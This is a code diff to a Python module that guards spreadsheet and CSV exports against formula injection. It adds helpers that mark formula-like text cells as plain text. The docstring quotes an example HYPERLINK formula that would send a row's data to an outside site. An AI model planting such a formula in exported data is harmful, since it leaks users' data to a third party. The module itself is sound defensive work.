@@ -5,6 +5,9 @@ by Excel, LibreOffice or Google Sheets ("formula injection": a substitute named
 ``=HYPERLINK("http://…"&B2,"Xem")`` would send the row to another site). Every exporter passes its
 rows through ``safe_row`` (or writes through ``SafeCsvWriter``), which prefixes such text with an
 apostrophe, the spreadsheet's own "this is text" mark. Numbers, dates and booleans are kept as they are.
+
+``as_text`` (a whole normal workbook before it is saved) and ``text_cells`` (one row of a write-only
+sheet) are the same rule for exporters that build their rows first.
 """
 from __future__ import annotations
 
@@ -49,3 +52,18 @@ class SafeCsvWriter:
 def append(sheet, values) -> None:
     """``sheet.append(values)`` with every text cell made safe."""
     sheet.append(safe_row(values))
+
+
+def as_text(book) -> None:
+    """Every text cell of a (normal) workbook that a spreadsheet would run made safe, in place."""
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
+                    cell.value = safe_cell(cell.value)
+                    cell.data_type = "s"
+
+
+def text_cells(sheet, values) -> list:
+    """A safe row for ``sheet.append`` (``sheet`` kept for the callers' signature)."""
+    return safe_row(values)
